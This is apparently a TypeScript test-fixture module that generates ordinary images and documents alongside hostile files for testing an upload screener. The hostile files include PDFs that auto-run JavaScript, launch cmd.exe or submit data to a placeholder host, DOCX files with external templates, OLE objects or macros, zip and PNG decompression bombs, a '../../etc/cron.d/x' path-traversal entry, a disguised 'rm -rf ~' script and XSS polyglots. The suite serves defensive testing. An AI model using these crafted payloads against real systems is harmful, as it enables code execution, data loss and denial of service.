import { randomBytes } from 'node:crypto';
import { crc32, deflateRawSync, deflateSync } from 'node:zlib';
import sharp from 'sharp';

// Good files and hostile ones, generated here so that none is stored in the repository.

/** A JPEG like a phone's, with orientation, location and camera in its EXIF data. */
export async function foto(ancho = 800, alto = 600, orientacion = 1): Promise<Buffer> {
  return sharp({ create: { width: ancho, height: alto, channels: 3, background: '#0f3d5c' } })
    .composite([
      { input: { create: { width: 40, height: 40, channels: 3, background: '#ffd400' } }, left: 0, top: 0 },
    ])
    .withExif({
      IFD0: { Make: 'SECRETCAM', Orientation: String(orientacion) },
      IFD3: {
        GPSLatitudeRef: 'S',
        GPSLatitude: '34/1 36/1 13/1',
        GPSLongitudeRef: 'W',
        GPSLongitude: '58/1 22/1 53/1',
      },
    })
    .withMetadata({ orientation: orientacion })
    .jpeg()
    .toBuffer();
}

/** A photo as heavy as a camera's, because its noise does not compress. Rotated to the right. */
export async function fotoDeCamara(ancho: number, alto: number): Promise<Buffer> {
  const grano = {
    width: ancho,
    height: alto,
    channels: 3,
    noise: { type: 'gaussian', mean: 128, sigma: 40 },
  } as const;
  return sharp({ create: { ...grano, background: '#000' } })
    .withMetadata({ orientation: 6 })
    .jpeg({ quality: 95 })
    .toBuffer();
}

export async function png(ancho = 300, alto = 200): Promise<Buffer> {
  return sharp({
    create: { width: ancho, height: alto, channels: 4, background: { r: 9, g: 9, b: 9, alpha: 0.5 } },
  })
    .png()
    .toBuffer();
}

/** Two frames, red and blue. */
export async function gifAnimado(): Promise<Buffer> {
  const cuadro = (background: string) =>
    sharp({ create: { width: 60, height: 40, channels: 3, background } })
      .png()
      .toBuffer();
  return sharp([await cuadro('#f00'), await cuadro('#00f')], { join: { animated: true } })
    .gif()
    .toBuffer();
}

/**
 * A PDF of one page.
 * @param otros more objects, numbered from 6 on, each given without its number: `<</S/GoTo>>`
 * @param raiz further entries of the catalogue
 */
export function pdf(texto = 'Hola', otros: readonly (string | Buffer)[] = [], raiz = ''): Buffer {
  const objetos = [
    `<</Type/Catalog/Pages 2 0 R${raiz}>>`,
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>',
    `<</Length ${texto.length + 34}>>stream\nBT /F1 24 Tf 20 100 Td (${texto}) Tj ET  \nendstream `,
    '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
    ...otros,
  ];
  const pedazos = [Buffer.from('%PDF-1.4\n')];
  let largo = 9;
  const posiciones = objetos.map((objeto, i) => {
    const posicion = largo;
    const entero = [Buffer.from(`${i + 1} 0 obj`), Buffer.from(objeto), Buffer.from('endobj\n')];
    pedazos.push(...entero);
    largo += entero.reduce((suma, pedazo) => suma + pedazo.length, 0);
    return `${String(posicion).padStart(10, '0')} 00000 n \n`;
  });
  const indice = `xref\n0 ${objetos.length + 1}\n0000000000 65535 f \n${posiciones.join('')}trailer<</Size ${objetos.length + 1}/Root 1 0 R>>\n`;
  return Buffer.concat([...pedazos, Buffer.from(`${indice}startxref\n${largo}\n%%EOF\n`, 'latin1')]);
}

/** A compressed PDF stream as writers make it; an object stream by default. */
export function flujoDePdf(contenido: string | Buffer, dice = '/Type/ObjStm/N 1/First 4'): Buffer {
  const comprimido = deflateSync(contenido);
  return Buffer.concat([
    Buffer.from(`<<${dice}/Filter/FlateDecode/Length ${comprimido.length}>>stream\r\n`),
    comprimido,
    Buffer.from('\r\nendstream '),
  ]);
}

const PROGRAMA = '<</S/JavaScript/JS(app.alert\\(1\\))>>';

/** PDFs with active content or attachments. */
function pdfsHostiles(): Hostil[] {
  const sinProposito = { code: 'ARCHIVO_NO_PERMITIDO' } as const;
  const activo = { ...sinProposito, detectado: 'pdf-activo' };
  const adjuntos = { ...sinProposito, detectado: 'pdf-adjuntos' };
  const roto = { code: 'ARCHIVO_DANADO', detectado: 'pdf' };
  const flujo = flujoDePdf(`6 0 ${PROGRAMA}`);
  return [
    { nombre: 'con-programa.pdf', bytes: pdf('Hola', [PROGRAMA], '/OpenAction 6 0 R'), ...activo },
    {
      nombre: 'con-programa-disfrazado.pdf',
      bytes: pdf('Hola', [], '/OpenAction<</S/J#61vaScript/JS(1)>>'),
      ...activo,
    },
    { nombre: 'con-programa-en-objetos.pdf', bytes: pdf('Hola', [flujo], '/OpenAction 7 0 R'), ...activo },
    {
      nombre: 'con-programa-tras-otros-objetos.pdf',
      bytes: pdf('Hola', [flujoDePdf(`${'6 0 <</A/B>> '.repeat(50_000)}${PROGRAMA}`)]),
      ...activo,
    },
    {
      nombre: 'con-programa-en-objetos-sin-decirlo.pdf',
      bytes: pdf('Hola', [flujoDePdf(PROGRAMA, '/Type/XObject/Subtype/Image')]),
      ...activo,
    },
    {
      nombre: 'con-objetos-que-no-se-abren.pdf',
      bytes: pdf('Hola', [
        Buffer.concat([
          flujo.subarray(0, flujo.indexOf('stream') + 10),
          randomBytes(40),
          Buffer.from('endstream '),
        ]),
      ]),
      ...roto,
    },
    {
      nombre: 'con-objetos-de-otra-forma.pdf',
      bytes: pdf('Hola', [`<</Type/ObjStm/N 1/First 4/Filter/ASCIIHexDecode>>stream\n00>endstream `]),
      ...roto,
    },
    {
      nombre: 'que-lanza.pdf',
      bytes: pdf('Hola', [], '/OpenAction<</S/Launch/F(cmd.exe)>>'),
      ...activo,
    },
    {
      nombre: 'que-manda-datos.pdf',
      bytes: pdf('Hola', [], '/AA<</WC<</S/SubmitForm/F(http://malo)>>>>'),
      ...activo,
    },
    { nombre: 'con-video.pdf', bytes: pdf('Hola', ['<</Subtype/RichMedia>>']), ...activo },
    {
      nombre: 'con-adjunto.pdf',
      bytes: pdf('Hola', [flujoDePdf('MZ', '/Type/EmbeddedFile')], '/Names<</EmbeddedFiles 6 0 R>>'),
      ...adjuntos,
    },
    {
      nombre: 'con-adjunto-en-objetos.pdf',
      bytes: pdf('Hola', [flujoDePdf('6 0 <</Names<</EmbeddedFiles 8 0 R>>>>')]),
      ...adjuntos,
    },
    {
      nombre: 'cifrado.pdf',
      bytes: pdf('Hola', ['<</Encrypt 5 0 R>>']),
      ...sinProposito,
      detectado: 'pdf-cifrado',
    },
    {
      nombre: 'bomba.pdf',
      bytes: pdf('Hola', Array<Buffer>(9).fill(flujoDePdf(Buffer.alloc(60 * 1024 * 1024), '/X 1'))),
      code: 'ARCHIVO_DEMASIADO_GRANDE',
      pesado: true,
    },
  ];
}

/** Word documents that load something external, or contain a program or another file. */
function documentosHostiles(): Hostil[] {
  const externo = { code: 'ARCHIVO_NO_PERMITIDO', detectado: 'docx-externo' };
  const incrustado = { code: 'ARCHIVO_NO_PERMITIDO', detectado: 'docx-incrustado' };
  return [
    {
      nombre: 'con-plantilla-ajena.docx',
      bytes: docx([
        relaciones('settings.xml', 'attachedTemplate', 'https://malo.example/x.dotm', 'External'),
      ]),
      ...externo,
    },
    {
      nombre: 'con-imagen-ajena.docx',
      bytes: docx([relaciones('document.xml', 'image', '\\\\malo\\x.png', 'External')]),
      ...externo,
    },
    {
      nombre: 'con-objeto.docx',
      bytes: docx([{ nombre: 'word/embeddings/oleObject1.bin', datos: doc('Workbook') }]),
      ...incrustado,
    },
    {
      nombre: 'con-objeto-en-otro-lado.docx',
      bytes: docx([relaciones('document.xml', 'oleObject', 'media/image1.emf')]),
      ...incrustado,
    },
    {
      nombre: 'con-control.docx',
      bytes: docx([{ nombre: 'word/activeX/activeX1.xml', datos: Buffer.from('<x/>') }]),
      ...incrustado,
    },
    {
      nombre: 'con-macros-relacionadas.docx',
      bytes: docx([relaciones('document.xml', 'vbaProject', 'otro.bin')]),
      code: 'ARCHIVO_NO_PERMITIDO',
      detectado: 'docm',
    },
    {
      nombre: 'con-entidades.docx',
      bytes: zip([
        {
          nombre: '[Content_Types].xml',
          datos: Buffer.from(`<!DOCTYPE x [<!ENTITY a "${'b'.repeat(1000)}">]>${TIPOS(WORD).slice(38)}`),
        },
        { nombre: 'word/document.xml', datos: Buffer.from(DOCUMENTO) },
      ]),
      code: 'ARCHIVO_DANADO',
      detectado: 'docx',
    },
    { nombre: 'con-objetos.doc', bytes: doc('WordDocument', ['ObjectPool', 'x']), ...incrustado },
  ];
}

function relaciones(de: string, clase: string, destino: string, modo = 'Internal'): Parte {
  const tipo = `http://schemas.openxmlformats.org/officeDocument/2006/relationships/${clase}`;
  return {
    nombre: `word/_rels/${de}.rels`,
    datos: Buffer.from(
      `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
        `<Relationship Id="r1" Type="${tipo}" Target="${destino}" TargetMode="${modo}"/></Relationships>`,
    ),
  };
}

/** A document with an ordinary hyperlink, as most have. */
export function docxConEnlace(): Buffer {
  return docx([relaciones('document.xml', 'hyperlink', 'https://ejemplo.com', 'External')]);
}

/** Took quadratic time before: many openings of a declaration, none of them closed. */
export function docxRepetido(veces: number): Buffer {
  return zip([
    { nombre: '[Content_Types].xml', datos: Buffer.from('<Override '.repeat(veces)) },
    { nombre: 'word/document.xml', datos: Buffer.from(DOCUMENTO) },
  ]);
}

const TIPOS = (tipo: string, parte = '/word/document.xml') =>
  `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
  `<Default Extension="xml" ContentType="application/xml"/><Override PartName="${parte}" ContentType="${tipo}"/></Types>`;
const WORD = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const DOCUMENTO =
  '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>';

export function docx(otras: Parte[] = [], tipo = WORD): Buffer {
  return zip([
    { nombre: '[Content_Types].xml', datos: Buffer.from(TIPOS(tipo)) },
    { nombre: 'word/document.xml', datos: Buffer.from(DOCUMENTO) },
    ...otras,
  ]);
}

/** The document under the name that Word's online edition gives it. */
export function docxEnLinea(): Buffer {
  return zip([
    { nombre: '[Content_Types].xml', datos: Buffer.from(TIPOS(WORD, '/word/document2.xml')) },
    { nombre: 'word/document2.xml', datos: Buffer.from(DOCUMENTO) },
  ]);
}

/** A Word 97 file of the smallest size that the format allows: header, allocation table, directory, one stream. */
export function doc(flujo = 'WordDocument', otros: string[] = [], marca = 0xa5ec): Buffer {
  const sector = 512;
  const cabecera = Buffer.alloc(sector, 0xff);
  cabecera.fill(0, 0, 0x4c);
  Buffer.from('d0cf11e0a1b11ae1', 'hex').copy(cabecera);
  cabecera.writeUInt16LE(0x3e, 0x18);
  cabecera.writeUInt16LE(3, 0x1a);
  cabecera.writeUInt16LE(0xfffe, 0x1c);
  cabecera.writeUInt16LE(9, 0x1e);
  cabecera.writeUInt16LE(6, 0x20);
  cabecera.writeUInt32LE(1, 0x2c);
  cabecera.writeUInt32LE(1, 0x30);
  cabecera.writeUInt32LE(4096, 0x38);
  cabecera.writeUInt32LE(0xfffffffe, 0x3c);
  cabecera.writeUInt32LE(0xfffffffe, 0x44);
  cabecera.writeUInt32LE(0, 0x4c);
  const tabla = Buffer.alloc(sector, 0xff);
  tabla.writeUInt32LE(0xfffffffd, 0);
  tabla.writeUInt32LE(0xfffffffe, 4);
  for (let i = 2; i < 10; i += 1) tabla.writeUInt32LE(i === 9 ? 0xfffffffe : i + 1, i * 4);
  const nombres = [flujo, ...otros].slice(0, 3);
  const directorio = Buffer.concat([
    entradaDeDirectorio('Root Entry', 5, { hijo: 1 }),
    ...nombres.map((nombre, i) => {
      // Entries after an ObjectPool are its children; any other entry is the sibling of the one before.
      const siguiente = i + 1 < nombres.length ? i + 2 : undefined;
      return entradaDeDirectorio(nombre, i === 0 ? 2 : 1, {
        ...(nombre === 'ObjectPool' ? { hijo: siguiente } : { derecha: siguiente }),
        sector: i === 0 ? 2 : 0,
      });
    }),
  ]);
  const contenido = Buffer.alloc(4096);
  contenido.writeUInt16LE(marca, 0);
  return Buffer.concat([
    cabecera,
    tabla,
    Buffer.concat([directorio, Buffer.alloc(sector)]).subarray(0, sector),
    contenido,
  ]);
}

function entradaDeDirectorio(
  nombre: string,
  tipo: number,
  { hijo, derecha, sector = 0 }: { hijo?: number | undefined; derecha?: number | undefined; sector?: number },
): Buffer {
  const entrada = Buffer.alloc(128);
  entrada.write(nombre, 'utf16le');
  entrada.writeUInt16LE((nombre.length + 1) * 2, 0x40);
  entrada.writeUInt8(tipo, 0x42);
  entrada.writeUInt32LE(0xffffffff, 0x44);
  entrada.writeUInt32LE(derecha ?? 0xffffffff, 0x48);
  entrada.writeUInt32LE(hijo ?? 0xffffffff, 0x4c);
  entrada.writeUInt32LE(sector, 0x74);
  entrada.writeUInt32LE(tipo === 2 ? 4096 : 0, 0x78);
  return entrada;
}

export type Parte = {
  nombre: string;
  datos: Buffer;
  /** The unpacked size that the archive declares, if false. */
  dice?: number;
  /** The name in the entry's local header, if it differs from the directory's. */
  nombreLocal?: string;
  cifrada?: boolean;
};

/** A deflated ZIP file whose headers may lie. */
export function zip(
  partes: Parte[],
  { antes, comentario = '' }: { antes?: Buffer; comentario?: string } = {},
): Buffer {
  const cuerpo: Buffer[] = antes === undefined ? [] : [antes];
  const directorio: Buffer[] = [];
  let posicion = antes?.length ?? 0;
  for (const { nombre, datos, dice = datos.length, nombreLocal = nombre, cifrada = false } of partes) {
    const comprimido = deflateRawSync(datos, { level: 9 });
    const comun = Buffer.alloc(26);
    comun.writeUInt16LE(20, 0);
    comun.writeUInt16LE(cifrada ? 1 : 0, 2);
    comun.writeUInt16LE(8, 4);
    comun.writeUInt32LE(crc32(datos), 10);
    comun.writeUInt32LE(comprimido.length, 14);
    comun.writeUInt32LE(dice, 18);
    comun.writeUInt16LE(Buffer.byteLength(nombre), 22);
    const local = Buffer.from(comun);
    local.writeUInt16LE(Buffer.byteLength(nombreLocal), 22);
    const entrada = Buffer.concat([
      Buffer.from('PK\u0003\u0004'),
      local,
      Buffer.from(nombreLocal),
      comprimido,
    ]);
    const resto = Buffer.alloc(14);
    resto.writeUInt32LE(posicion, 10);
    directorio.push(
      Buffer.concat([Buffer.from('PK\u0001\u0002\u0014\u0000', 'latin1'), comun, resto, Buffer.from(nombre)]),
    );
    cuerpo.push(entrada);
    posicion += entrada.length;
  }
  return Buffer.concat([...cuerpo, ...cierre(directorio, posicion, comentario)]);
}

function cierre(directorio: Buffer[], posicion: number, comentario: string): Buffer[] {
  const fin = Buffer.alloc(22);
  fin.write('PK\u0005\u0006', 'latin1');
  fin.writeUInt16LE(directorio.length, 8);
  fin.writeUInt16LE(directorio.length, 10);
  fin.writeUInt32LE(Buffer.concat(directorio).length, 12);
  fin.writeUInt32LE(posicion, 16);
  fin.writeUInt16LE(Buffer.byteLength(comentario), 20);
  return [...directorio, fin, Buffer.from(comentario)];
}

/**
 * The directory names one compressed block many times: 42 kB that unpack to gigabytes, although each entry declares its true
 * size.
 */
export function zipSuperpuesto(): Buffer {
  const uno = zip([{ nombre: 'a', datos: Buffer.alloc(1_000_000) }]);
  const fin = uno.length - 22;
  const posicion = uno.readUInt32LE(fin + 16);
  const entrada = uno.subarray(posicion, fin);
  const copias = Array.from('abcdefghij', (nombre) => nombre).map((nombre) => {
    const copia = Buffer.from(entrada);
    copia.write(nombre, 46);
    return copia;
  });
  return Buffer.concat([uno.subarray(0, posicion), ...cierre(copias, posicion, '')]);
}

/** A PNG of a few hundred bytes that declares 60,000 pixels of width and height. */
export async function pngGigante(): Promise<Buffer> {
  const chico = Buffer.from(await png(8, 8));
  chico.writeUInt32BE(60_000, 16);
  chico.writeUInt32BE(60_000, 20);
  chico.writeUInt32BE(crc32(chico.subarray(12, 29)), 29);
  return chico;
}

const SCRIPT = '<script>alert(document.domain)</script>';

export type Hostil = {
  nombre: string;
  bytes: Buffer;
  code: string;
  detectado?: string | null;
  /** Takes seconds to detect: send it once, not a thousand times. */
  pesado?: true;
};

/** Files that must be refused as evidence under any name, and with which code. */
export async function corpusHostil(): Promise<Hostil[]> {
  const jpeg = await foto();
  const unDocx = docx();
  const unPdf = pdf();
  const cien = 100 * 1024 * 1024;
  return [
    {
      nombre: 'informe.pdf',
      bytes: Buffer.concat([Buffer.from('\x7FELF\x02\x01\x01\0', 'latin1'), randomBytes(500)]),
      code: 'ARCHIVO_NO_PERMITIDO',
      detectado: 'elf',
    },
    {
      nombre: 'foto.jpg',
      bytes: Buffer.concat([Buffer.from('MZ\x90\0', 'latin1'), randomBytes(500)]),
      code: 'ARCHIVO_NO_PERMITIDO',
      detectado: 'exe',
    },
    {
      nombre: 'dibujo.svg',
      bytes: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`),
      code: 'ARCHIVO_NO_PERMITIDO',
    },
    {
      nombre: 'dibujo.png',
      bytes: Buffer.from(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`),
      code: 'ARCHIVO_NO_PERMITIDO',
    },
    {
      nombre: 'pagina.pdf',
      bytes: Buffer.from(`<!doctype html>${SCRIPT}`),
      code: 'ARCHIVO_NO_PERMITIDO',
      detectado: null,
    },
    { nombre: 'guion.docx', bytes: Buffer.from('#!/bin/sh\nrm -rf ~\n'), code: 'ARCHIVO_NO_PERMITIDO' },
    { nombre: 'texto.doc', bytes: Buffer.from('sólo texto'), code: 'ARCHIVO_NO_PERMITIDO', detectado: null },
    {
      nombre: 'IMG_1.HEIC',
      bytes: Buffer.concat([Buffer.from('\0\0\0\x18ftypheic\0\0\0\0mif1heic', 'latin1'), randomBytes(200)]),
      code: 'ARCHIVO_NO_PERMITIDO',
      detectado: 'heic',
    },
    {
      nombre: 'cortada.jpg',
      bytes: jpeg.subarray(0, Math.floor(jpeg.length * 0.7)),
      code: 'ARCHIVO_DANADO',
      detectado: 'jpg',
    },
    {
      nombre: 'sólo-cabecera.png',
      bytes: (await png()).subarray(0, 60),
      code: 'ARCHIVO_DANADO',
      detectado: 'png',
    },
    {
      nombre: 'gif-y-js.gif',
      bytes: Buffer.from('GIF89a/*\x01\x00\x00\x00*/=1;alert(1)//', 'latin1'),
      code: 'ARCHIVO_DANADO',
      detectado: 'gif',
    },
    { nombre: 'gigante.png', bytes: await pngGigante(), code: 'ARCHIVO_DEMASIADO_GRANDE' },

    {
      nombre: 'cortado.pdf',
      bytes: unPdf.subarray(0, unPdf.length - 20),
      code: 'ARCHIVO_DANADO',
      detectado: 'pdf',
    },
    {
      nombre: 'con-cola.pdf',
      bytes: Buffer.concat([unPdf, Buffer.from(SCRIPT)]),
      code: 'ARCHIVO_DANADO',
      detectado: 'pdf',
    },
    {
      nombre: 'pdf-y-zip.pdf',
      bytes: zip([{ nombre: 'x.js', datos: Buffer.from('1') }], {
        antes: unPdf,
        comentario: '\nstartxref\n9\n%%EOF\n',
      }),
      code: 'ARCHIVO_NO_PERMITIDO',
      detectado: 'zip',
    },
    {
      nombre: 'versión.pdf',
      bytes: Buffer.from('%PDF-9.9\nstartxref\n0\n%%EOF'),
      code: 'ARCHIVO_DANADO',
      detectado: 'pdf',
    },

    ...pdfsHostiles(),
    ...documentosHostiles(),
    {
      nombre: 'override-repetido.docx',
      bytes: docxRepetido(2000),
      code: 'ARCHIVO_DANADO',
      detectado: 'docx',
    },

    { nombre: 'planilla.doc', bytes: doc('Workbook'), code: 'ARCHIVO_NO_PERMITIDO', detectado: 'cfb' },
    {
      nombre: 'macros.doc',
      bytes: doc('WordDocument', ['Macros']),
      code: 'ARCHIVO_NO_PERMITIDO',
      detectado: 'docm',
    },
    { nombre: 'falso.doc', bytes: doc('WordDocument', [], 0x1234), code: 'ARCHIVO_DANADO', detectado: 'doc' },
    { nombre: 'cortado.doc', bytes: doc().subarray(0, 1100), code: 'ARCHIVO_DANADO', detectado: 'doc' },
    { nombre: 'rulo.doc', bytes: docConRulo(), code: 'ARCHIVO_DANADO', detectado: 'doc' },

    {
      nombre: 'cualquiera.docx',
      bytes: zip([{ nombre: 'hola.txt', datos: Buffer.from('hola') }]),
      code: 'ARCHIVO_NO_PERMITIDO',
      detectado: 'zip',
    },
    {
      nombre: 'sin-documento.docx',
      bytes: zip([{ nombre: '[Content_Types].xml', datos: Buffer.from(TIPOS(WORD)) }]),
      code: 'ARCHIVO_NO_PERMITIDO',
      detectado: 'zip',
    },
    {
      nombre: 'planilla.docx',
      bytes: docx([], 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'),
      code: 'ARCHIVO_NO_PERMITIDO',
      detectado: 'zip',
    },
    {
      nombre: 'macros.docx',
      bytes: docx([], 'application/vnd.ms-word.document.macroEnabled.main+xml'),
      code: 'ARCHIVO_NO_PERMITIDO',
      detectado: 'docm',
    },
    {
      nombre: 'con-vba.docx',
      bytes: docx([{ nombre: 'word/vbaProject.bin', datos: Buffer.from('x') }]),
      code: 'ARCHIVO_NO_PERMITIDO',
      detectado: 'docm',
    },
    {
      nombre: 'bomba.docx',
      bytes: docx([{ nombre: 'word/media/a.bin', datos: Buffer.alloc(cien) }]),
      code: 'ARCHIVO_DEMASIADO_GRANDE',
    },
    {
      nombre: 'comprimidísimo.docx',
      bytes: docx([{ nombre: 'word/media/a.bin', datos: Buffer.alloc(30 * 1024 * 1024) }]),
      code: 'ARCHIVO_NO_PERMITIDO',
      detectado: 'zip',
    },
    {
      nombre: 'mentiroso.docx',
      bytes: docx([{ nombre: 'word/media/a.bin', datos: Buffer.alloc(cien), dice: 1000 }]),
      code: 'ARCHIVO_NO_PERMITIDO',
      detectado: 'zip',
    },
    { nombre: 'superpuesto.docx', bytes: zipSuperpuesto(), code: 'ARCHIVO_NO_PERMITIDO', detectado: 'zip' },
    {
      nombre: 'sale.docx',
      bytes: docx([{ nombre: '../../etc/cron.d/x', datos: Buffer.from('x') }]),
      code: 'ARCHIVO_NO_PERMITIDO',
      detectado: 'zip',
    },
    {
      nombre: 'dos-veces.docx',
      bytes: docx([{ nombre: 'WORD/document.xml', datos: Buffer.from('x') }]),
      code: 'ARCHIVO_NO_PERMITIDO',
      detectado: 'zip',
    },
    {
      nombre: 'dos-nombres.docx',
      bytes: docx([{ nombre: 'a.txt', nombreLocal: 'b.exe', datos: Buffer.from('x') }]),
      code: 'ARCHIVO_NO_PERMITIDO',
      detectado: 'zip',
    },
    {
      nombre: 'cifrado.docx',
      bytes: docx([{ nombre: 'a.txt', cifrada: true, datos: Buffer.from('x') }]),
      code: 'ARCHIVO_NO_PERMITIDO',
      detectado: 'zip',
    },
    {
      nombre: 'cortado.docx',
      bytes: unDocx.subarray(0, unDocx.length - 30),
      code: 'ARCHIVO_DANADO',
      detectado: 'docx',
    },
    { nombre: 'golpeado.docx', bytes: golpear(unDocx, 60), code: 'ARCHIVO_DANADO', detectado: 'docx' },
  ];
}

/** Images that are also another kind of file. They decode, so they are accepted, but only their pixels may survive. */
export async function imagenesConCarga(): Promise<{ nombre: string; bytes: Buffer }[]> {
  const carga = Buffer.from(SCRIPT);
  const jpeg = await foto();
  const comentario = Buffer.concat([Buffer.from([0xff, 0xfe, 0, carga.length + 2]), carga]);
  return [
    { nombre: 'jpeg con HTML al final', bytes: Buffer.concat([jpeg, carga]) },
    {
      nombre: 'jpeg con HTML en un comentario',
      bytes: Buffer.concat([jpeg.subarray(0, 2), comentario, jpeg.subarray(2)]),
    },
    {
      nombre: 'png con un zip al final',
      bytes: zip([{ nombre: 'x.js', datos: carga }], { antes: await png(), comentario: SCRIPT }),
    },
    { nombre: 'gif con un script al final', bytes: Buffer.concat([await gifAnimado(), carga]) },
  ];
}

/** The sector chain of its directory loops back to its start. */
function docConRulo(): Buffer {
  const bytes = doc('Nada');
  bytes.writeUInt32LE(1, 512 + 4);
  return bytes;
}

function golpear(bytes: Buffer, posicion: number): Buffer {
  const copia = Buffer.from(bytes);
  copia.writeUInt8(copia.readUInt8(posicion) ^ 0xff, posicion);
  return copia;
}
